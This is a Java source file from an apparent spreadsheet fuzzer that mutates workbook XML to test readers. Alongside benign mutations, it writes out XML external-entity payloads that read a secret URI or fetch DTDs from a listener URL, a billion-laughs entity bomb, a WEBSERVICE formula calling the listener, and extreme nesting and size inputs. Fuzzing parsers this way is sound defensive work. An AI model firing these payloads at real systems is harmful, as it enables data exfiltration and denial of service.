package org.sheetnet.fuzz;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * XML-level damage inside a workbook's entries: elements duplicated or removed, attributes
 * changed (cell references, cell types, indexes), hostile values, DOCTYPEs with entities, deep
 * nesting, bad declarations and characters, and one entry made very large.
 */
final class XmlMutations {

    // Cells, rows, values and strings do not nest in SpreadsheetML, so a lazy match finds one element.
    private static final Pattern ELEMENT = Pattern.compile(
            "<(c|row|v|si|sheet|t|f|is|col|definedName|Relationship|Override|mergeCell)\\b[^>]*?(/>|>.*?</\\1>)",
            Pattern.DOTALL);
    private static final Pattern ATTRIBUTE = Pattern.compile("\\s([\\w:]+)=\"([^\"]*)\"");
    private static final Pattern TEXT = Pattern.compile("<(v|t|f)(\\s[^>]*)?>([^<]*)</\\1>");

    private XmlMutations() {
    }

    static List<Mutation> all() {
        return List.of(
                new StructuralMutation("xml-duplicate-element", (s, r, h) -> onElement(s, r, true)),
                new StructuralMutation("xml-remove-element", (s, r, h) -> onElement(s, r, false)),
                new StructuralMutation("xml-attribute", XmlMutations::attribute),
                new StructuralMutation("xml-value", XmlMutations::value),
                new StructuralMutation("xml-doctype", XmlMutations::doctype),
                new StructuralMutation("xml-deep-nesting", XmlMutations::deepNesting),
                new StructuralMutation("xml-truncate", XmlMutations::truncate),
                new StructuralMutation("xml-declaration", XmlMutations::declaration),
                new StructuralMutation("xml-far-cell", XmlMutations::farCell),
                new StructuralMutation("xml-formula", XmlMutations::formula),
                new StructuralMutation("xml-huge-content", XmlMutations::hugeContent));
    }

    /** An XML entry, worksheets most often, as their cells are what readers interpret most. */
    static RawZip.Entry pickEntry(Subject s, Random random) {
        List<RawZip.Entry> xml = s.xmlEntries();
        if (xml.isEmpty()) {
            return null;
        }
        String preferred = switch (random.nextInt(10)) {
            case 0, 1, 2, 3, 4, 5 -> "worksheets/sheet";
            case 6, 7 -> "sharedStrings.xml";
            case 8 -> "workbook.xml";
            default -> "";
        };
        List<RawZip.Entry> some = xml.stream().filter(e -> e.name.contains(preferred)).toList();
        return Hostile.pick(random, some.isEmpty() ? xml : some);
    }

    private static String onElement(Subject s, Random random, boolean duplicate) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        String xml = e.text();
        List<int[]> spans = spans(ELEMENT.matcher(xml));
        if (spans.isEmpty()) {
            return null;
        }
        int[] span = Hostile.pick(random, spans);
        String element = xml.substring(span[0], span[1]);
        e.text(xml.substring(0, span[0]) + (duplicate ? element + element : "") + xml.substring(span[1]));
        return (duplicate ? "doubled " : "removed ") + abbreviate(element) + " in " + e.name;
    }

    private static String attribute(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        String xml = e.text();
        Matcher m = ATTRIBUTE.matcher(xml);
        List<int[]> spans = new ArrayList<>();
        List<String> names = new ArrayList<>();
        while (m.find()) {
            spans.add(new int[] {m.start(), m.end()});
            names.add(m.group(1));
        }
        if (spans.isEmpty()) {
            return null;
        }
        int i = random.nextInt(spans.size());
        String name = names.get(i);
        String replacement = switch (random.nextInt(4)) {
            case 0 -> "";
            case 1 -> " " + name + "=\"" + xml.substring(spans.get(i)[0], spans.get(i)[1]).split("=\"", 2)[1]
                    + " " + name + "=\"" + hostileAttributeValue(name, random) + "\"";
            default -> " " + name + "=\"" + hostileAttributeValue(name, random) + "\"";
        };
        e.text(xml.substring(0, spans.get(i)[0]) + replacement + xml.substring(spans.get(i)[1]));
        return name + " -> [" + abbreviate(replacement.trim()) + "] in " + e.name;
    }

    private static String hostileAttributeValue(String name, Random random) {
        return switch (name) {
            case "r", "ref", "sqref" -> Hostile.pick(random, Hostile.REFS);
            case "t" -> Hostile.pick(random, Hostile.CELL_TYPES);
            case "name" -> Hostile.pick(random, Hostile.TEXTS);
            default -> Hostile.pick(random, Hostile.NUMBERS);
        };
    }

    private static String value(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        String xml = e.text();
        Matcher m = TEXT.matcher(xml);
        List<int[]> spans = new ArrayList<>();
        while (m.find()) {
            spans.add(new int[] {m.start(3), m.end(3)});
        }
        if (spans.isEmpty()) {
            return null;
        }
        int[] span = Hostile.pick(random, spans);
        String value = random.nextBoolean() ? Hostile.pick(random, Hostile.NUMBERS) : escape(Hostile.pick(random, Hostile.TEXTS));
        e.text(xml.substring(0, span[0]) + value + xml.substring(span[1]));
        return "[" + abbreviate(xml.substring(span[0], span[1])) + "] -> [" + abbreviate(value) + "] in " + e.name;
    }

    private static String doctype(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        String root = rootName(e.text());
        String doctype = switch (random.nextInt(4)) {
            case 0 -> "<!DOCTYPE " + root + " [<!ENTITY x SYSTEM \"" + hostile.secretUri() + "\">]>";
            case 1 -> "<!DOCTYPE " + root + " [<!ENTITY % p SYSTEM \"" + hostile.listenerUrl() + "/p.dtd\"> %p;"
                    + "<!ENTITY x \"p\">]>";
            case 2 -> "<!DOCTYPE " + root + " SYSTEM \"" + hostile.listenerUrl() + "/x.dtd\" [<!ENTITY x \"y\">]>";
            default -> laughs(root);
        };
        String xml = insertAfterDeclaration(e.text(), doctype);
        // Use the entity where a reader looks: in a cell value or a string.
        Matcher m = TEXT.matcher(xml);
        List<int[]> spans = new ArrayList<>();
        while (m.find()) {
            spans.add(new int[] {m.start(3), m.end(3)});
        }
        if (!spans.isEmpty()) {
            int[] span = Hostile.pick(random, spans);
            xml = xml.substring(0, span[0]) + "&x;" + xml.substring(span[1]);
        }
        e.text(xml);
        return abbreviate(doctype) + " in " + e.name;
    }

    private static String laughs(String root) {
        StringBuilder d = new StringBuilder("<!DOCTYPE " + root + " [<!ENTITY l0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            d.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return d.append("<!ENTITY x \"&l9;\">]>").toString();
    }

    private static String deepNesting(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        int depth = Hostile.logSize(random, 200_000);
        String tag = random.nextBoolean() ? "x" : "c";
        String xml = e.text();
        int at = xml.indexOf("<sheetData>");
        at = at >= 0 ? at + "<sheetData>".length() : Math.max(0, xml.indexOf('>', xml.indexOf("?>") + 2) + 1);
        e.text(xml.substring(0, at) + ("<" + tag + ">").repeat(depth) + ("</" + tag + ">").repeat(depth) + xml.substring(at));
        return depth + " nested <" + tag + "> in " + e.name;
    }

    private static String truncate(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null || e.data.length == 0) {
            return null;
        }
        int length = random.nextInt(e.data.length);
        e.data = java.util.Arrays.copyOf(e.data, length);
        return e.name + " cut to " + length + " bytes";
    }

    private static String declaration(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        String xml = e.text().replaceFirst("^<\\?xml[^>]*\\?>", "");
        String[] heads = {"", "\uFEFF", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>", "<?xml version=\"1.1\"?>",
            "<?xml version=\"1.0\" encoding=\"EBCDIC-CP-US\"?>", " <?xml version=\"1.0\"?>", "\u0000",
            "<?xml version=\"1.0\"?><!-- \uFFFE -->"};
        String head = heads[random.nextInt(heads.length)];
        e.text(head + xml);
        return "declaration [" + abbreviate(head) + "] in " + e.name;
    }

    private static String farCell(Subject s, Random random, Hostile hostile) {
        List<RawZip.Entry> sheets = s.zip.named(".xml").stream().filter(e -> e.name.contains("worksheets/")).toList();
        if (sheets.isEmpty()) {
            return null;
        }
        RawZip.Entry e = Hostile.pick(random, sheets);
        String row = random.nextBoolean() ? "<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row>"
                : "<row r=\"100000\"><c r=\"AAA100000\"><v>1</v></c></row>";
        String xml = e.text().replace("</sheetData>", row + "</sheetData>")
                .replaceFirst("<dimension ref=\"[^\"]*\"", "<dimension ref=\"A1:XFD1048576\"");
        e.text(xml);
        return row + " in " + e.name;
    }

    private static String formula(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        String xml = e.text();
        Matcher m = Pattern.compile("<v>([^<]*)</v>").matcher(xml);
        List<int[]> spans = spans(m);
        if (spans.isEmpty()) {
            return null;
        }
        int[] span = Hostile.pick(random, spans);
        String[] formulas = {"<f>0.01*2</f>", "<f>1/0</f><v>0</v>", "<f>SUM(A1:XFD1048576)</f>", "<f>A1</f>",
            "<f>WEBSERVICE(\"" + hostile.listenerUrl() + "\")</f>"};
        String f = formulas[random.nextInt(formulas.length)];
        e.text(xml.substring(0, span[0]) + f + xml.substring(span[1]));
        return abbreviate(f) + " in " + e.name;
    }

    /** A large XML comment or inline string, streamed when the archive is written. */
    private static String hugeContent(Subject s, Random random, Hostile hostile) {
        RawZip.Entry e = pickEntry(s, random);
        if (e == null) {
            return null;
        }
        String xml = e.text();
        int at = xml.indexOf("<sheetData>");
        if (at < 0) {
            return null;
        }
        long size = (8L + random.nextInt(300)) << 20;
        boolean comment = random.nextBoolean();
        String open = comment ? "<!--" : "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>";
        String close = comment ? "-->" : "</t></is></c></row>";
        int insert = at + "<sheetData>".length();
        e.text(xml.substring(0, insert) + open + close + xml.substring(insert));
        e.filler = new RawZip.Filler(insert + open.length(), size, random.nextLong(), "abcdefghij klmnop");
        return (size >> 20) + " MB " + (comment ? "comment" : "inline string") + " in " + e.name;
    }

    private static String rootName(String xml) {
        Matcher m = Pattern.compile("<([A-Za-z][\\w:]*)").matcher(xml);
        return m.find() ? m.group(1) : "x";
    }

    private static String insertAfterDeclaration(String xml, String text) {
        int end = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        return xml.substring(0, end) + text + xml.substring(end);
    }

    private static List<int[]> spans(Matcher m) {
        List<int[]> spans = new ArrayList<>();
        while (m.find()) {
            spans.add(new int[] {m.start(), m.end()});
        }
        return spans;
    }

    private static String escape(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
    }

    static String abbreviate(String text) {
        String one = text.replace("\n", "\\n").replace("\r", "\\r");
        return one.length() <= 70 ? one : one.substring(0, 60) + "…(" + one.length() + " chars)";
    }
}
